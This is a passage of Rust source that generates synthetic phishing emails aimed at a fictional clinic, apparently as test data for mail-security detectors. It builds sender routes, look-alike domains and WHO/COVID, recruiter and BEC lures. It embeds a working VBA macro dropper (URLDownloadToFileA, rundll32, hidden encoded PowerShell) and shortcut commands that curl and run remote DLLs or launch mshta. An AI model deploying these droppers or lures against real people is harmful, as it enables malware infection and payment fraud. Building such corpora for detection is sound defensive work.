//! Phishing as it reaches a clinic's mailboxes, one kind per [`MailKind`], written the
//! way an analyst describes the campaigns: who sends (free mail, a freshly registered or
//! look-alike domain, a compromised business's real account, the clinic's own domain
//! forged), with what lure, and what the message carries (a link to a fake sign-in page,
//! a weaponised attachment, nothing but a request for money).
//!
//! Messages come in campaigns: a run of messages from one sender with one lure and one
//! link host, to different people. A campaign's fixed choices come from its own seed;
//! each message's details (recipient, tracking token, invoice number) from the stream.
//! What the messages say is not tuned to any detector: several kinds are hard by nature
//! (a BEC request from Gmail has no link and no attachment; a compromised business's
//! account passes SPF, DKIM and DMARC).

use fastrand::Rng;

use super::MailKind;
use super::compose::{Context, Draft, Mailbox};
use super::files::{self, File, PdfExtras, Picture};
use super::people::{Client, PARTNERS, Person, Policy, SUPPLIERS, local_part};
use super::route::{Route, Signature as Dkim, address_for, local_day, sending_host};
use super::text::{alnum, b64, chance, choose, esc, hex, html_page, pick};
use super::{BULK_OWN_DOMAINS, CORPUS_OWN_DOMAIN};

/// One running campaign of a kind: its seed (the campaign's fixed choices) and how many
/// messages it still sends.
#[derive(Clone, Copy)]
struct Campaign {
    seed: u64,
    remaining: u32,
}

#[derive(Default)]
pub(super) struct Campaigns {
    running: Vec<(MailKind, Campaign)>,
}

impl Campaigns {
    pub(super) fn draft(&mut self, cx: &mut Context<'_>, kind: MailKind) -> Draft {
        let slot = match self.running.iter().position(|(k, _)| *k == kind) {
            Some(i) => i,
            None => {
                self.running.push((
                    kind,
                    Campaign {
                        seed: 0,
                        remaining: 0,
                    },
                ));
                self.running.len() - 1
            }
        };
        let campaign = &mut self.running[slot].1;
        if campaign.remaining == 0 {
            // Most campaigns reach a handful of people here; some reach dozens.
            let size = if chance(cx.rng, 15) {
                cx.rng.u32(10..=30)
            } else {
                cx.rng.u32(1..=8)
            };
            *campaign = Campaign {
                seed: cx.rng.u64(..),
                remaining: size,
            };
        }
        campaign.remaining -= 1;
        let mut fixed = Rng::with_seed(campaign.seed);
        match kind {
            MailKind::FakeRecruiter => fake_recruiter(cx, &mut fixed),
            MailKind::WhoCovid => who_covid(cx, &mut fixed),
            MailKind::LookalikeDomain => lookalike_domain(cx, &mut fixed),
            MailKind::CredentialPhish => credential_phish(cx, &mut fixed),
            MailKind::MaliciousAttachment => malicious_attachment(cx, &mut fixed),
            MailKind::BecDisplayName => bec_display_name(cx, &mut fixed),
            MailKind::OwnDomainSpoof | MailKind::Benign => own_domain_spoof(cx, &mut fixed),
        }
    }
}

// --- Senders --------------------------------------------------------------------------

/// Free-mail providers: domain, the client their mail looks like it came from, the
/// provider's DMARC policy.
const FREEMAIL: &[(&str, Client, Policy)] = &[
    ("gmail.com", Client::Gmail, Policy::Monitor),
    ("gmail.com", Client::Gmail, Policy::Monitor),
    ("outlook.com", Client::ExchangeOnline, Policy::Monitor),
    ("hotmail.com", Client::ExchangeOnline, Policy::Monitor),
    ("yahoo.com", Client::Webmail, Policy::Reject),
    ("protonmail.com", Client::Webmail, Policy::Quarantine),
    ("icloud.com", Client::AppleMail, Policy::Quarantine),
    ("mail.com", Client::Webmail, Policy::Absent),
    ("gmx.com", Client::Webmail, Policy::Absent),
];

/// A message from a free-mail account: the provider signs it and SPF passes.
fn freemail_route(
    rng: &mut Rng,
    local: &str,
    domain: &str,
    client: Client,
    policy: Policy,
    offset: i32,
) -> Route {
    let (helo, ip) = match client {
        Client::Gmail | Client::ExchangeOnline => sending_host(rng, domain, client),
        _ => {
            let host = format!("mout.{domain}");
            let ip = address_for(&host);
            (host, ip)
        }
    };
    Route {
        mail_from: format!("{local}@{domain}"),
        helo,
        ip,
        spf: "pass",
        signatures: vec![Dkim {
            domain: domain.to_owned(),
            selector: choose(rng, &["20230601", "s2048", "selector1", "1a1hai"]),
            result: "pass",
        }],
        policy,
        tls: true,
        offset,
    }
}

/// A message from a domain the attacker registered and set up properly: SPF passes,
/// DKIM passes when they bothered to sign (half of them), and DMARC, if published at all, says p=none.
fn attacker_route(rng: &mut Rng, local: &str, domain: &str) -> Route {
    let signs = chance(rng, 50);
    let vps = format!(
        "{}.{}",
        pick(rng, &["vps", "srv", "mail", "smtp", "server1"]),
        domain
    );
    Route {
        mail_from: format!("{local}@{domain}"),
        ip: address_for(&vps),
        helo: vps,
        spf: "pass",
        signatures: if signs {
            vec![Dkim {
                domain: domain.to_owned(),
                selector: "default",
                result: "pass",
            }]
        } else {
            Vec::new()
        },
        policy: if signs {
            Policy::Monitor
        } else {
            Policy::Absent
        },
        tls: true,
        offset: 0,
    }
}

/// Small businesses whose mail accounts are taken over and used to send phishing: their
/// mail authenticates as what it is.
const COMPROMISED: &[(&str, &str, Client)] = &[
    (
        "harbourview-dental.example",
        "Harbourview Dental Practice",
        Client::ExchangeOnline,
    ),
    ("kellerbau-gmbh.example", "Kellerbau GmbH", Client::Webmail),
    (
        "sunrise-realty.example",
        "Sunrise Realty",
        Client::ExchangeOnline,
    ),
    (
        "peak-accounting.example",
        "Peak Accounting Services",
        Client::ExchangeOnline,
    ),
    (
        "bellavista-hotel.example",
        "Hotel Bellavista",
        Client::Webmail,
    ),
    (
        "greenfield-school.example",
        "Greenfield Primary School",
        Client::Gmail,
    ),
    (
        "nordic-freight.example",
        "Nordic Freight AS",
        Client::ExchangeOnline,
    ),
    (
        "alvarez-abogados.example",
        "Álvarez Abogados",
        Client::Webmail,
    ),
];

fn compromised_route(rng: &mut Rng, local: &str, domain: &str, client: Client) -> Route {
    let mut route = Route::own_servers(rng, domain, local, client, Policy::Monitor, true, 60);
    if client == Client::Webmail {
        route.helo = format!("cpanel{}.webhost.example", rng.u8(10..99));
        route.ip = address_for(&route.helo);
    }
    route
}

/// Mail claiming to be from `from_domain` sent from elsewhere: the envelope sender is the
/// forged address (SPF fails) or the sender's own throwaway domain (SPF passes, not
/// aligned); nothing is signed, or a signature copied from elsewhere fails. DMARC fails.
fn forged_route(rng: &mut Rng, from_address: &str, policy: Policy) -> Route {
    let own_envelope = chance(rng, 50);
    let bulk = pick(
        rng,
        &[
            "mailer-out.example",
            "newsletter-send.example",
            "sendmail-pro.example",
            "bulk-relay.example",
        ],
    );
    let helo = format!("{}.{}", pick(rng, &["vps", "mx", "smtp", "relay"]), bulk);
    Route {
        mail_from: if own_envelope {
            from_address.to_owned()
        } else {
            format!("bounce-{}@{bulk}", hex(rng, 8, false))
        },
        ip: address_for(&helo),
        helo,
        spf: if own_envelope {
            choose(rng, &["fail", "softfail"])
        } else {
            "pass"
        },
        signatures: if chance(rng, 25) {
            let domain = from_address
                .rsplit_once('@')
                .map_or("", |(_, d)| d)
                .to_owned();
            vec![Dkim {
                domain,
                selector: "mx2026",
                result: "fail",
            }]
        } else {
            Vec::new()
        },
        policy,
        tls: chance(rng, 70),
        offset: 0,
    }
}

// --- Shared content -------------------------------------------------------------------

/// Hosts that serve fake sign-in pages: look-alikes of the brands, and free hosting the
/// brands' names do not appear in.
const LOGIN_HOSTS: &[&str] = &[
    "login.microsoftonline.com.{hex}.auth-session.com",
    "rnicrosoftonline.com",
    "microsoftonline-login.com",
    "login-microsoft365.com",
    "micr0softonline.com",
    "xn--mcrosoftonline-59l.com",
    "office365-sso.com",
    "sharepoint-onedrive.com",
    "docusign-secure.net",
    "docusign.net-review.com",
    "xn--dcusign-9ig.com",
    "secure-{hex}.web.app",
    "doc-view-{hex}.pages.dev",
    "pub-{hex}{hex}.r2.dev",
    "storage.googleapis.com",
    "{hex}docs.blob.core.windows.net",
    "ipfs.io",
    "m365-{hex}.workers.dev",
    "203.0.113.{n}",
];

fn login_host(rng: &mut Rng) -> String {
    let host = pick(rng, LOGIN_HOSTS);
    let mut out = host.replace("{n}", &rng.u8(2..250).to_string());
    while let Some(at) = out.find("{hex}") {
        let token = hex(rng, 8, false);
        out.replace_range(at..at + 5, &token);
    }
    out
}

/// A link to the fake page on `host`, with the victim's address in it as kits do.
fn login_url(rng: &mut Rng, host: &str, victim: &str) -> String {
    let scheme = if host.starts_with("203.0.113.") {
        "http"
    } else {
        "https"
    };
    match host {
        "storage.googleapis.com" => format!(
            "https://storage.googleapis.com/{}/index.html#{victim}",
            alnum(rng, 12).to_lowercase()
        ),
        "ipfs.io" => format!(
            "https://ipfs.io/ipfs/bafybei{}?filename=login.html#{victim}",
            alnum(rng, 52).to_lowercase()
        ),
        h if h.ends_with(".blob.core.windows.net") => {
            format!("https://{h}/$web/index.html?email={victim}")
        }
        h => format!(
            "{scheme}://{h}/{}?{}={}",
            pick(
                rng,
                &[
                    "common/oauth2/authorize",
                    "owa/auth/logon.aspx",
                    "signin/v2/identifier",
                    "Signing/EmailStart.aspx",
                    "s/document/view",
                    "login.php",
                    "auth/verify"
                ]
            ),
            pick(rng, &["email", "u", "login_hint", "id"]),
            if chance(rng, 50) {
                victim.to_owned()
            } else {
                b64(rng, 24).replace(['+', '/'], "_")
            }
        ),
    }
}

/// Sometimes the link goes through a redirector first, which hides the real host.
fn wrapped(rng: &mut Rng, url: &str) -> String {
    match rng.u8(..10) {
        0 => format!(
            "https://www.google.com/url?q={}&sa=D&source=editors&ust={}&usg=AOvVaw{}",
            url.replace(':', "%3A").replace('/', "%2F"),
            rng.u64(1_790_000_000_000_000..1_800_000_000_000_000),
            alnum(rng, 22)
        ),
        1 => format!("https://bit.ly/{}", alnum(rng, 7)),
        2 => format!("https://t.co/{}", alnum(rng, 10)),
        _ => url.to_owned(),
    }
}

fn brand_html(
    brand: &str,
    heading: &str,
    paragraphs: &[String],
    button: &str,
    href: &str,
    shown: Option<&str>,
    footer: &str,
) -> String {
    let mut body = format!(
        "<table width=\"100%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td align=\"center\"><table width=\"600\" style=\"border:1px solid #e1e1e1\">\
         <tr><td style=\"padding:20px 24px;font-size:18px;color:#555\"><b>{}</b></td></tr><tr><td style=\"padding:0 24px\"><h2 style=\"font-weight:400\">{}</h2>",
        esc(brand),
        esc(heading)
    );
    for p in paragraphs {
        body.push_str(&format!(
            "<p style=\"font-size:14px;line-height:20px\">{}</p>",
            esc(p)
        ));
    }
    let label = shown.map_or_else(|| esc(button), esc);
    body.push_str(&format!(
        "<p><a href=\"{href}\" style=\"display:inline-block;background:#0067b8;color:#ffffff;padding:10px 20px;text-decoration:none\">{label}</a></p>\
         <p style=\"font-size:11px;color:#888\">{}</p></td></tr></table></td></tr></table>",
        esc(footer)
    ));
    html_page(heading, &body)
}

fn someone(cx: &mut Context<'_>) -> Person {
    cx.world.anyone(cx.rng).clone()
}

const FIRST_NAMES: &[&str] = &[
    "Sarah", "Emily", "Jessica", "Daniel", "Michael", "Olivia", "Anna", "David", "Laura", "Kevin",
    "Linda", "Robert",
];
const LAST_NAMES: &[&str] = &[
    "Miller", "Johnson", "Williams", "Carter", "Thompson", "Evans", "Walker", "Parker", "Morgan",
    "Bennett",
];

// --- Fake recruiters ------------------------------------------------------------------

const HIRING_COMPANIES: &[&str] = &[
    "Boeing",
    "Lockheed Martin",
    "Airbus Defence and Space",
    "Pfizer",
    "Moderna",
    "AstraZeneca",
    "Roche Diagnostics",
    "Siemens Healthineers",
    "Medtronic",
    "GE HealthCare",
];

const RECRUITER_TITLES: &[&str] = &[
    "Senior Recruiter",
    "Talent Acquisition Partner",
    "Head of Talent",
    "HR Manager",
    "Technical Recruiter",
    "Executive Search Consultant",
];

const ROLES: &[&str] = &[
    "Senior Biomedical Engineer",
    "Director of Clinical Operations",
    "Principal Research Scientist",
    "Clinical Data Manager",
    "Regulatory Affairs Lead",
    "Cybersecurity Engineer (Medical Devices)",
    "Head of Nursing Informatics",
];

/// Recruiting domains made to look like the job sites or the hiring company.
const RECRUITING_LOOKALIKES: &[&str] = &[
    "linkedln.com",
    "xn--lnkedin-rog.com",
    "linkedin-talentsolutions.com",
    "lnkedin-careers.com",
    "indeed-hiring.net",
    "glassdoor-careers.com",
    "careers-pfizer.com",
    "boeing-careers.net",
    "lockheedmartin-jobs.com",
    "astrazeneca-recruitment.com",
];

const MACRO_DROPPER: &str = "Attribute VB_Name = \"Module1\"\r\n\
Private Declare PtrSafe Function URLDownloadToFileA Lib \"urlmon\" (ByVal pCaller As LongPtr, ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As LongPtr) As Long\r\n\r\n\
Sub AutoOpen()\r\n    Main\r\nEnd Sub\r\n\r\nSub Document_Open()\r\n    Main\r\nEnd Sub\r\n\r\nSub Workbook_Open()\r\n    Main\r\nEnd Sub\r\n\r\n\
Private Sub Main()\r\n\
    Dim p As String, u As String\r\n\
    u = StrReverse(\"txt.1v/stessa/{host}//:sptth\")\r\n\
    p = Environ(\"APPDATA\") & \"\\Microsoft\\Templates\\wordupd.dll\"\r\n\
    URLDownloadToFileA 0, u, p, 0, 0\r\n\
    CreateObject(\"WScript.Shell\").Run \"rundll32.exe \" & Chr(34) & p & Chr(34) & \",DllRegisterServer\", 0, False\r\n\
    Dim s As String\r\n\
    s = \"pow\" & \"ershell -nop -w hidden -enc \" & \"JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA\"\r\n\
    Shell s, vbHide\r\n\
End Sub\r\n";

fn macro_document(
    rng: &mut Rng,
    at: i64,
    title: &str,
    host: &str,
    excel: bool,
) -> std::io::Result<Vec<u8>> {
    let source = MACRO_DROPPER.replace("{host}", &host.chars().rev().collect::<String>());
    let this = if excel {
        "ThisWorkbook"
    } else {
        "ThisDocument"
    };
    let vba = files::vba_project(
        at,
        &[
            (this, &format!("Attribute VB_Name = \"{this}\"\r\n")),
            ("Module1", &source),
        ],
    )?;
    if excel {
        let rows = vec![
            vec![title.to_owned()],
            vec![
                "This document is protected. Click \"Enable Content\" above to view it.".to_owned(),
            ],
            vec![format!("Ref {}", rng.u32(100_000..999_999))],
        ];
        files::workbook("Administrator", at, "Sheet1", &rows, Some(&vba))
    } else {
        let paragraphs = vec![
            title.to_owned(),
            "This document was created in an earlier version of Microsoft Office Word.".to_owned(),
            "To view this content, please click \"Enable Editing\" from the yellow bar and then click \"Enable Content\".".to_owned(),
        ];
        files::word("User", at, &paragraphs, Some(&vba))
    }
}

fn fake_recruiter(cx: &mut Context<'_>, fixed: &mut Rng) -> Draft {
    let company = choose(fixed, HIRING_COMPANIES);
    let role = choose(fixed, ROLES);
    let (first, last) = (choose(fixed, FIRST_NAMES), choose(fixed, LAST_NAMES));
    let title = choose(fixed, RECRUITER_TITLES);
    let lookalike = chance(fixed, 40);
    let payload = fixed.u8(..5);
    let payload_host = format!(
        "{}-{}.com",
        pick(
            fixed,
            &["cdn-docs", "jobs-portal", "hr-files", "careers-share"]
        ),
        hex(fixed, 4, false)
    );
    let victim = if chance(cx.rng, 60) {
        let department = choose(
            cx.rng,
            &["Research", "Cardiology", "Radiology", "IT", "Laboratory"],
        );
        cx.world.in_department(cx.rng, department).clone()
    } else {
        someone(cx)
    };
    let (from, route, client, recruiting_site): (Mailbox, Route, Client, Option<String>) =
        if lookalike {
            let domain = (choose(fixed, RECRUITING_LOOKALIKES)).to_owned();
            let local = if domain.contains("linked")
                || domain.contains("indeed")
                || domain.contains("glassdoor")
            {
                "talent".to_owned()
            } else {
                local_part(first, last)
            };
            let route = attacker_route(fixed, &local, &domain);
            let name = if domain.contains("linked") {
                format!("{first} {last} via LinkedIn")
            } else {
                format!("{first} {last} | {company} Careers")
            };
            (
                (name, format!("{local}@{domain}")),
                route,
                Client::Kit,
                Some(domain),
            )
        } else {
            let (domain, client, policy) = choose(fixed, FREEMAIL);
            let local = format!(
                "{}.{}.{}",
                first.to_lowercase(),
                last.to_lowercase(),
                pick(fixed, &["talent", "recruit", "hr", "careers", "jobs"])
            );
            let route = freemail_route(fixed, &local, domain, client, policy, -300);
            let name = if chance(fixed, 60) {
                format!("{first} {last}, {title} at {company}")
            } else {
                format!("{first} {last}")
            };
            ((name, format!("{local}@{domain}")), route, client, None)
        };
    let subject = match fixed.u8(..5) {
        0 => format!("Job offer: {role} - {company}"),
        1 => format!("{}, exclusive opportunity at {company}", victim.first),
        2 => format!("Interview invitation - {role}"),
        3 => format!("Confidential: {role} position (relocation package included)"),
        _ => format!("Your profile was shortlisted for {role}"),
    };
    let mut draft = Draft::new(
        "fake_recruiter",
        client,
        from,
        victim.mailbox(),
        subject.clone(),
        route,
    );
    draft.transit = cx.rng.i64(2..90);
    let salary = format!("${},000 - ${},000", fixed.u8(140..180), fixed.u8(190..250));
    let mut paragraphs = vec![
        format!("Dear {},", victim.first),
        format!(
            "I came across your profile and I am impressed by your experience as {} at Riverside Clinic.",
            victim.title
        ),
        format!(
            "{company} is expanding its team and we have an opening for a {role}. The position offers a salary of {salary}, a signing bonus and full relocation support. The job description and the benefits package are detailed in the attached document."
        ),
    ];
    let at = cx.delivered - 7_200;
    match payload {
        0 | 1 => {
            paragraphs.push("The document is protected to keep the offer confidential. Please open it on a Windows computer and click \"Enable Content\" to view it.".to_owned());
            if let Ok(doc) = macro_document(
                cx.rng,
                at,
                &format!("{company} - {role} - Job Description"),
                &payload_host,
                false,
            ) {
                draft.attachments.push(File::new(
                    files::DOCM,
                    format!(
                        "{}_{}_JD.docm",
                        company.replace(' ', "_"),
                        role.split_whitespace().last().unwrap_or("Role")
                    ),
                    doc,
                ));
            }
        }
        2 => {
            paragraphs.push("I have put the job description and salary details in the archive attached; please open the PDF inside.".to_owned());
            let shortcut = files::lnk(
                "Job Description",
                "..\\..\\..\\Windows\\System32\\conhost.exe",
                &format!(
                    "--headless cmd /c curl -s https://{payload_host}/jd.pdf -o %TEMP%\\jd.pdf && start %TEMP%\\jd.pdf && curl -s https://{payload_host}/u.dll -o %TEMP%\\u.dll && rundll32 %TEMP%\\u.dll,Start"
                ),
                "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe,11",
            );
            let name = format!("{}_Job_Description.pdf.lnk", company.replace(' ', "_"));
            if let Ok(zip) = files::zip(&[(name.as_str(), &shortcut)], at) {
                draft.attachments.push(File::new(
                    files::ZIP,
                    format!("{}_Offer.zip", company.replace(' ', "_")),
                    zip,
                ));
            }
        }
        3 => {
            paragraphs.push(
                "The package is in the disk image attached (it opens directly in Windows)."
                    .to_owned(),
            );
            let shortcut = files::lnk(
                "Salary_Package",
                "C:\\Windows\\System32\\rundll32.exe",
                "package.dll,DllRegisterServer",
                "C:\\Windows\\System32\\imageres.dll,-102",
            );
            let size = cx.rng.usize(40_000..120_000);
            let dll = files::executable(cx.rng, size);
            let iso = files::iso(
                "OFFER",
                &[("SALARY_PACKAGE.PDF.LNK", &shortcut), ("PACKAGE.DLL", &dll)],
                at,
            );
            draft.attachments.push(File::new(
                files::OCTET,
                format!("{}_Salary_Package.iso", company.replace(' ', "_")),
                iso,
            ));
        }
        _ => {
            // No attachment: the candidate is sent to a portal, or moved to WhatsApp.
            paragraphs.pop();
            paragraphs.push(format!("{company} is expanding its team and we have an opening for a {role} with a salary of {salary} and full relocation support."));
            match &recruiting_site {
                Some(site) => {
                    let url = format!("https://{site}/jobs/apply/{}?candidate={}", fixed.u32(100_000..999_999), b64(cx.rng, 16).replace(['+', '/'], "_"));
                    paragraphs.push(format!("Please sign in to the candidate portal to review the offer and book your interview slot: {url}"));
                }
                None => paragraphs.push(format!("Are you available for a short interview this week? For a quicker conversation you can reach me on WhatsApp at +1 202 555 0{}.", fixed.u16(100..199))),
            }
        }
    }
    paragraphs.push(format!(
        "Best regards,\r\n{first} {last}\r\n{title}\r\n{company}"
    ));
    draft.text = Some(super::text::plain(&paragraphs));
    if client == Client::Gmail || recruiting_site.is_some() {
        draft.html = Some(format!(
            "<div dir=\"ltr\">{}</div>",
            paragraphs
                .iter()
                .map(|p| format!(
                    "<div>{}</div><div><br></div>",
                    esc(p).replace("\r\n", "<br>")
                ))
                .collect::<String>()
        ));
    }
    draft
}

// --- WHO and COVID-19 -----------------------------------------------------------------

/// Health-authority impersonation: sender domain, display name, how the mail is sent.
#[derive(Clone, Copy)]
enum HealthSender {
    /// A look-alike domain the attacker registered.
    Lookalike(&'static str, &'static str),
    /// The authority's name on a free-mail address.
    Freemail(&'static str),
    /// The authority's own domain, forged.
    Forged(&'static str, &'static str, Policy),
    /// A compromised account elsewhere with the authority's name.
    Compromised(&'static str),
}

const HEALTH_SENDERS: &[HealthSender] = &[
    HealthSender::Lookalike("who-int.org", "World Health Organization"),
    HealthSender::Lookalike("who-int.com", "WHO Health Emergencies"),
    HealthSender::Lookalike("covid19-who.org", "WHO COVID-19 Response"),
    HealthSender::Lookalike(
        "worldhealthorganization-alerts.org",
        "World Health Organization",
    ),
    HealthSender::Lookalike("cdc-gov.org", "CDC Health Alert Network"),
    HealthSender::Lookalike("nhs-vaccination.uk.com", "NHS Vaccination Service"),
    HealthSender::Lookalike("ecdc-europa.eu.com", "ECDC"),
    HealthSender::Freemail("WHO Director-General Office"),
    HealthSender::Freemail("World Health Organization"),
    HealthSender::Forged(
        "covid19@who.int",
        "World Health Organization",
        Policy::Reject,
    ),
    HealthSender::Forged(
        "noreply@cdc.gov",
        "Centers for Disease Control and Prevention",
        Policy::Reject,
    ),
    HealthSender::Compromised("World Health Organization"),
];

const HEALTH_LURES: &[(&str, &str)] = &[
    (
        "COVID-19: updated vaccination protocol for healthcare staff",
        "Following the emergence of a new SARS-CoV-2 variant, all healthcare personnel must review the updated vaccination protocol and confirm their booster status before {day}.",
    ),
    (
        "Mandatory: register for the winter COVID-19 booster",
        "Health workers who have not registered for the winter COVID-19 booster will be reported to their employer. Registration takes two minutes.",
    ),
    (
        "WHO alert: new variant - infection control measures for hospitals",
        "WHO has issued urgent infection prevention and control measures for hospitals following cases of the new variant among health workers. Read the measures and the list of affected facilities in your region.",
    ),
    (
        "Coronavirus vaccine certificate verification required",
        "Your COVID-19 vaccination certificate could not be verified. To avoid suspension of your certificate, verify your details with the national registry.",
    ),
    (
        "Urgent: COVID-19 pandemic response funding for health partners",
        "The World Health Organization is coordinating funding for partner hospitals to support the COVID-19 pandemic response. Please confirm your institution's details to receive the allocation.",
    ),
];

fn who_covid(cx: &mut Context<'_>, fixed: &mut Rng) -> Draft {
    let sender = choose(fixed, HEALTH_SENDERS);
    let (subject, lure) = choose(fixed, HEALTH_LURES);
    let payload = fixed.u8(..4);
    let link_host = match sender {
        HealthSender::Lookalike(domain, _) => domain.to_owned(),
        _ => login_host(fixed),
    };
    let victim = someone(cx);
    let (from, route, client): (Mailbox, Route, Client) = match sender {
        HealthSender::Lookalike(domain, name) => {
            let local = choose(
                fixed,
                &["covid19", "alert", "noreply", "vaccination", "info"],
            );
            (
                (name.to_owned(), format!("{local}@{domain}")),
                attacker_route(fixed, local, domain),
                Client::Kit,
            )
        }
        HealthSender::Freemail(name) => {
            let (domain, client, policy) = choose(fixed, FREEMAIL);
            let local = format!(
                "{}{}",
                pick(
                    fixed,
                    &[
                        "who.office",
                        "who.dg.office",
                        "covid19.who",
                        "who-emergency"
                    ]
                ),
                fixed.u8(..99)
            );
            (
                (name.to_owned(), format!("{local}@{domain}")),
                freemail_route(fixed, &local, domain, client, policy, 120),
                client,
            )
        }
        HealthSender::Forged(address, name, policy) => (
            (name.to_owned(), address.to_owned()),
            forged_route(fixed, address, policy),
            Client::Kit,
        ),
        HealthSender::Compromised(name) => {
            let (domain, _, client) = choose(fixed, COMPROMISED);
            let local = choose(fixed, &["info", "office", "admin", "reception"]);
            (
                (name.to_owned(), format!("{local}@{domain}")),
                compromised_route(fixed, local, domain, client),
                client,
            )
        }
    };
    let day = local_day(cx.delivered + 86_400 * 3);
    let lure = lure.replace("{day}", &day);
    let mut draft = Draft::new(
        "who_covid",
        client,
        from.clone(),
        victim.mailbox(),
        subject.to_owned(),
        route,
    );
    draft.transit = cx.rng.i64(2..300);
    if matches!(sender, HealthSender::Freemail(_)) && chance(fixed, 60) {
        draft.reply_to = Some((
            from.0.clone(),
            format!(
                "who.response{}@{}",
                fixed.u8(..99),
                pick(fixed, &["outlook.com", "protonmail.com", "gmail.com"])
            ),
        ));
    }
    let mut paragraphs = vec![
        format!(
            "Dear {},",
            pick(
                fixed,
                &["colleague", "Health Worker", "Partner", "Sir/Madam"]
            )
        ),
        lure,
    ];
    let at = cx.delivered - 3_600;
    match payload {
        0 | 1 => {
            let target = format!(
                "https://{link_host}/covid19/{}?ref={}&email={}",
                pick(
                    fixed,
                    &[
                        "vaccination/register",
                        "guidance/login",
                        "certificate/verify",
                        "measures/download"
                    ]
                ),
                hex(cx.rng, 10, false),
                victim.address
            );
            let url = wrapped(cx.rng, &target);
            paragraphs.push("Complete the registration using your work e-mail account:".to_owned());
            let shown = "https://www.who.int/emergencies/diseases/novel-coronavirus-2019";
            draft.html = Some(brand_html(
                &from.0,
                subject,
                &paragraphs,
                "Register now",
                &url,
                chance(fixed, 50).then_some(shown),
                "World Health Organization, Avenue Appia 20, 1211 Geneva",
            ));
            paragraphs.push(url);
        }
        2 => {
            paragraphs.push("The measures and the list of affected facilities are in the attached document. Enable content to view the protected file.".to_owned());
            if let Ok(doc) = macro_document(
                cx.rng,
                at,
                subject,
                &format!("who-{}.com", hex(fixed, 5, false)),
                false,
            ) {
                draft.attachments.push(File::new(
                    files::DOCM,
                    pick(
                        fixed,
                        &[
                            "COVID-19_Safety_Measures.docm",
                            "WHO_Vaccination_Protocol_2026.docm",
                            "Variant_Guidance_Health_Workers.docm",
                        ],
                    )
                    .to_string(),
                    doc,
                ));
            }
        }
        _ => {
            paragraphs.push(
                "Please read the attached guidance carefully and share it with your staff."
                    .to_owned(),
            );
            let shortcut = files::lnk(
                "Guidance",
                "C:\\Windows\\System32\\mshta.exe",
                &format!("https://{link_host}/g.hta"),
                "C:\\Windows\\System32\\shell32.dll,1",
            );
            let name = "WHO_COVID-19_Guidance.pdf.lnk";
            if let Ok(zip) = files::zip(&[(name, &shortcut)], at) {
                draft
                    .attachments
                    .push(File::new(files::ZIP, "WHO_COVID-19_Guidance.zip", zip));
            }
        }
    }
    paragraphs.push(format!(
        "{}\r\n{}",
        pick(fixed, &["Regards,", "Yours sincerely,", "Thank you,"]),
        from.0
    ));
    draft.text = Some(super::text::plain(&paragraphs));
    draft
}

// --- Look-alike domains of the clinic and its partners --------------------------------

/// Look-alikes of the clinic's domains and of its partners', and the kind of each.
const OWN_LOOKALIKES: &[&str] = &[
    "c1inic.example",
    "cllnic.example",
    "clinlc.example",
    "xn--clnic-o2e.example",
    "xn--linic-0ye.example",
    "cli-nic.example",
    "clinic-example.com",
    "clinics.example",
    "clinic.co",
    "clinic-research.com",
    "clinic-reseach.example",
    "clinicfoundaton.example",
];

const PARTNER_LOOKALIKES: &[(&str, &str)] = &[
    ("medisupply.example", "rnedisupply.example"),
    ("medisupply.example", "medi-supply.example"),
    ("northwind-medical.example", "northwind-rnedical.example"),
    ("northwind-medical.example", "northwindmedical.example"),
    ("orbis-pharma.example", "orbis-pharrna.example"),
    ("stmarys-hospital.example", "stmarys-hospltal.example"),
    ("cleancare.example", "cleancare-services.example"),
];

fn lookalike_domain(cx: &mut Context<'_>, fixed: &mut Rng) -> Draft {
    let own = chance(fixed, 60);
    let story = fixed.u8(..4);
    let at = cx.delivered - 5_400;
    if own {
        let domain = choose(fixed, OWN_LOOKALIKES);
        let executives = cx.world.executives();
        let impersonated = executives[fixed.usize(..executives.len())].clone();
        let local = impersonated
            .address
            .split('@')
            .next()
            .unwrap_or("admin")
            .to_owned();
        let route = attacker_route(fixed, &local, domain);
        let (victim, subject, mut paragraphs) = match story {
            0 => {
                let v = cx.world.in_department(cx.rng, "Finance").clone();
                let s = format!(
                    "Invoice approval - urgent {}",
                    pick(fixed, &["(today)", "before 3pm", ""])
                );
                let p = vec![
                    format!("Hi {},", v.first),
                    "I need this supplier invoice paid today; the contract was signed last week and they will stop the service if it is late. The bank details are on the invoice attached.".to_owned(),
                    "Please confirm by e-mail once the transfer is done. I am in meetings so e-mail is best.".to_owned(),
                ];
                (v, s.trim_end().to_owned(), p)
            }
            1 => {
                let v = cx.world.in_department(cx.rng, "Human Resources").clone();
                (v.clone(), "Change of bank details for my salary".to_owned(), vec![
                    format!("Hello {},", v.first),
                    "I have changed banks and would like my salary paid into the new account from this month. Could you tell me what you need from me, or update it directly? The details are below.".to_owned(),
                    format!("IBAN: GB{:02} MONZ {:04} {:04} {:04} {:02}", fixed.u8(10..99), fixed.u16(..9999), fixed.u16(..9999), fixed.u16(..9999), fixed.u8(..99)),
                ])
            }
            2 => {
                let v = someone(cx);
                let url = login_url(cx.rng, &format!("share.{domain}"), &v.address);
                (v.clone(), format!("{} shared \"Salary review 2027.xlsx\" with you", impersonated.display), vec![
                    format!("{} shared a file with you.", impersonated.display),
                    "Please review the salary adjustments for your team before the committee meets.".to_owned(),
                    format!("Open: {url}"),
                ])
            }
            _ => {
                let v = someone(cx);
                (v.clone(), "Quick question".to_owned(), vec![
                    format!("{},", v.first),
                    "Are you in the office today? I need you to handle something confidential for me. Reply when you see this.".to_owned(),
                ])
            }
        };
        paragraphs.push(format!(
            "Thanks,\r\n{}\r\n{}\r\nRiverside Clinic",
            impersonated.display, impersonated.title
        ));
        let mut draft = Draft::new(
            "lookalike_own_domain",
            Client::Kit,
            (impersonated.display.clone(), format!("{local}@{domain}")),
            victim.mailbox(),
            subject,
            route,
        );
        draft.text = Some(super::text::plain(&paragraphs));
        if story == 0 {
            let lines = vec![
                format!(
                    "{} - Invoice {}",
                    pick(
                        fixed,
                        &[
                            "Apex Medical Supplies Ltd",
                            "Meridian Health Consulting",
                            "Clearline Facilities"
                        ]
                    ),
                    fixed.u32(10_000..99_999)
                ),
                "Bill to: Riverside Clinic".to_owned(),
                format!(
                    "Amount due: EUR {},{:03}.00",
                    fixed.u8(12..95),
